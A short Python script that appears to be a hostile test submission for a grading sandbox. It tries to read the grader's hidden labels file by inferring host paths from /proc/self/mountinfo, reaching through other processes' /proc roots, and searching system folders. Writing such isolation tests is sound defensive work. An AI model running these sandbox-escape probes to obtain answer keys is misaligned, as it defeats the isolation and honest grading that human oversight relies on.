"""Find the hidden labels: at their host path, beside /data on the host (learnt from
/proc/self/mountinfo), through /proc/*/root, and by searching every visible folder."""
# /// hostile
# status = "ok"
# prints = ["hidden labels: 0 found"]
# pipeline = "failed"
# ///

import glob
import json
import os
import pathlib

targets = json.loads(pathlib.Path("/submission/targets.json").read_text())
candidates = [targets["hidden_labels"], targets["hidden_dir"]]
for line in pathlib.Path("/proc/self/mountinfo").read_text().splitlines():
    fields = line.split()
    if fields[4] == "/data":  # the host folder behind /data: hidden/ is usually its sibling
        host_data = fields[3]
        candidates += [
            os.path.join(os.path.dirname(host_data), "hidden", "labels.csv"),
            os.path.join(host_data, "..", "hidden", "labels.csv"),
        ]
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    candidates += [f"/proc/{pid}/root{targets['hidden_labels']}", f"/proc/{pid}/cwd/../hidden"]
found = []
for path in candidates:
    try:
        with open(path) as stolen:
            found.append(path)
            print("ESCAPED read", path, stolen.read()[:200])
    except OSError:
        pass
for top in ("/data", "/submission", "/tmp", "/output", "/opt", "/etc", "/dev/shm"):
    for path in glob.glob(top + "/**/labels.csv", recursive=True):
        found.append(path)
        print("ESCAPED found", path)
print(f"hidden labels: {len(found)} found")
